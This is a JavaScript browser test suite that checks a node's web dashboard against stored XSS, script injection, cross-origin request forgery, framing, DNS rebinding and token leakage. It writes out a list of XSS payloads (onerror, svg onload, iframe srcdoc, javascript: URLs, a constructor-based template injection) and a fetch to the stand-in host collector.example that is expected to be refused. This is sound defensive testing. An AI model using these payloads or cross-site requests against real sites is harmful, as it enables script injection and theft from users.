// The web side under attack, in a real browser with its own defences on, against the node's real server.
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { close, open, quit } from './browser.mjs';
import { fileServer, fixtureNode, token } from './serving.mjs';
import { hash, world } from './world.mjs';

const attacks = [
  '<img src=x onerror="globalThis.taken=1">',
  '<script>globalThis.taken=1</script>',
  '<svg onload=globalThis.taken=1>',
  '"><iframe srcdoc="<script>parent.taken=1</script>">',
  'javascript:globalThis.taken=1',
  '{{constructor.constructor("taken=1")()}}',
  '\u202eexe.fdp',
  '\u0000\u001b[2J',
].join(' ');
let node;

before(async () => {
  node = await fixtureNode(world({ text: attacks, file: attacks, reason: attacks }));
});
after(async () => {
  await quit();
  await node?.stop();
});

describe('stored text', () => {
  for (const path of ['/', '/agents/treasurer', '/approvals', '/budgets', '/cluster'])
    it(`of an agent, a file or an instruction stays text at ${path}`, async () => {
      const page = await open(node.link(path));
      await page.getByRole('heading', { level: 1 }).waitFor();
      if (path === '/agents/treasurer') {
        await page.getByText('all 40').waitFor();
        await page.getByRole('region', { name: /Actions/ }).focus();
        await page.keyboard.press('ArrowDown');
        await page.getByText('onerror=').first().waitFor();
      }
      if (path === '/approvals') await page.getByText('onerror=').first().waitFor();
      assert.equal(await page.evaluate(() => globalThis.taken), undefined);
      assert.equal(await page.locator('main img, main iframe, main script, a[href^="javascript"]').count(), 0);
      assert.doesNotMatch(await page.locator('main').innerText(), /\u202e|\u001b/);
      await close(page);
    });

  it('in the address does nothing', async () => {
    const page = await open(`${node.url}#/agents/${encodeURIComponent(attacks)}`);
    await page.getByRole('heading', { level: 1 }).waitFor();
    assert.equal(await page.evaluate(() => globalThis.taken), undefined);
    assert.equal(await page.locator('main img, main iframe, main script').count(), 0);
    await close(page);
  });

  for (const kind of ['node', 'file server'])
    it(`is taken by nothing that makes elements or programs of it, on the page of a ${kind}`, async () => {
      const files = await fileServer();
      try {
        const page = await open(kind === 'node' ? node.link() : files.url);
        await page.getByRole('heading', { level: 1 }).waitFor();
        const threw = await page.evaluate(() => [
          () => { document.createElement('div').innerHTML = '<img src="data:," onerror="globalThis.taken = 2">'; },
          () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'),
          () => document.write('<b>x</b>'),
          () => { document.createElement('script').src = './other.js'; },
          () => { document.createElement('script').textContent = 'globalThis.taken = 1'; },
          () => new Worker('./other.js'),
          () => document.createElement('iframe').setAttribute('srcdoc', '<b>x</b>'),
          () => trustedTypes.createPolicy('another', { createHTML: (text) => text }),
        ].map((act) => {
          try { act(); } catch (thrown) { return thrown.name; }
          return 'done';
        }));
        assert.deepEqual(threw, threw.map(() => 'TypeError'));
        assert.equal(await page.evaluate(() => globalThis.taken), undefined);
        await close(page);
      } finally {
        await files.stop();
      }
    });

  it('that became code after all is not run, and reaches nobody', async () => {
    const page = await open(node.link());
    await page.getByRole('heading', { level: 1 }).waitFor();
    const ran = await page.evaluate(async () => {
      const script = document.createElement('script');
      // As text, which the page's own defence against it does not see.
      script.append('globalThis.taken = 1');
      document.body.append(script);
      let sent = 'sent';
      await fetch('https://collector.example/').catch(() => {
        sent = 'refused';
      });
      await new Promise((done) => setTimeout(done, 100));
      return [globalThis.taken ?? null, sent];
    });
    assert.deepEqual(ran, [null, 'refused']);
    assert.ok(
      page.faults.some((fault) => fault.includes('collector.example') && /Content Security Policy/.test(fault)),
    );
    await close(page);
  });
});

describe('another page of this browser', () => {
  let foreign;
  before(async () => {
    foreign = await fileServer({
      '/index.html': '<!doctype html><title>x</title><p id="x">hello</p>',
      '/dao.json': '{}',
    });
  });
  after(() => foreign.stop());

  it('gets nothing from the node and changes nothing, even while its user has the dashboard open', async () => {
    const page = await open(node.link());
    await page.getByRole('heading', { level: 1 }).waitFor();
    const other = await page.context().newPage();
    await other.goto(foreign.url);
    const got = await other.evaluate(
      async ([url, action]) => {
        const attempt = (path, request) =>
          fetch(url + path, request).then(
            (answer) => answer.text(),
            () => 'refused',
          );
        const form = document.createElement('form');
        Object.assign(form, { method: 'post', action: `${url}v1/drain`, target: 'out', enctype: 'text/plain' });
        const frame = Object.assign(document.createElement('iframe'), { name: 'out' });
        document.body.append(frame, form);
        form.submit();
        await new Promise((done) => {
          frame.onload = done;
        });
        return [
          await attempt('v1/status', {}),
          await attempt('dao.json', {}),
          await attempt('v1/drain', { method: 'POST', credentials: 'include' }),
          await attempt(`v1/approvals/${action}`, {
            method: 'POST',
            headers: { 'Content-Type': 'application/json' },
            body: '{}',
          }),
          await attempt('v1/status', { headers: { Authorization: 'Bearer guessed' } }),
        ];
      },
      [node.url.endsWith('/') ? node.url : `${node.url}/`, hash('waiting')],
    );
    assert.deepEqual(got, ['refused', 'refused', 'refused', 'refused', 'refused']);
    assert.deepEqual(await node.given(), []);
    await close(page);
  });

  it('cannot put it into a frame', async () => {
    const page = await open(foreign.url);
    await page.evaluate((url) => {
      document.body.append(Object.assign(document.createElement('iframe'), { src: url, id: 'framed' }));
    }, node.url);
    await assert.doesNotReject(page.waitForFunction(() => document.getElementById('framed') !== null));
    await page
      .waitForEvent('console', {
        predicate: (said) => /frame-ancestors|X-Frame-Options/.test(said.text()),
        timeout: 10_000,
      })
      .catch(() => assert.ok(page.faults.some((fault) => /frame-ancestors|X-Frame-Options/.test(fault))));
    assert.equal(await page.frameLocator('#framed').getByRole('heading', { level: 1 }).count(), 0);
    await close(page);
  });

  it('that rebinds its name to this machine meets a closed door', async () => {
    const { port } = new URL(node.url);
    const page = await open(`http://dao.rebound.test:${port}/`);
    assert.match(await page.locator('body').innerText(), /DAI-6013/);
    const status = await page.evaluate(() => fetch('/v1/status').then((answer) => answer.status));
    assert.equal(status, 421);
    await close(page);
  });
});

describe('the token', () => {
  it('is in no address, no cookie, no lasting store, and goes to the node alone', async () => {
    const page = await open('about:blank');
    const asked = [];
    page.on('request', (request) => asked.push(request));
    await page.goto(node.link('/cluster'));
    await page.getByText('Anchor key').waitFor();
    assert.equal(page.url().includes(token), false);
    const kept = await page.evaluate(() => [document.cookie, JSON.stringify({ ...localStorage }), document.referrer]);
    assert.deepEqual(kept, ['', '{}', '']);
    for (const request of asked) {
      const headers = await request.allHeaders();
      assert.equal(request.url().includes(token) && !request.isNavigationRequest(), false);
      assert.equal(JSON.stringify(headers).includes(token), (headers.authorization ?? '') !== '');
      if (headers.authorization !== undefined) assert.equal(new URL(request.url()).origin, new URL(node.url).origin);
    }
    assert.ok(asked.some((request) => request.url().endsWith('/v1/status')));
    await close(page);
  });

  it('that is wrong is told so, and another one can be given', async () => {
    const page = await open(`${node.url}#token=${'x'.repeat(40)}&to=/cluster`);
    await page.getByText('DAI-6012').first().waitFor();
    await page.getByLabel('Token of the node').fill(token);
    await page.getByRole('button', { name: 'Use' }).click();
    await page.getByText('Anchor key').waitFor();
    await close(page);
  });
});
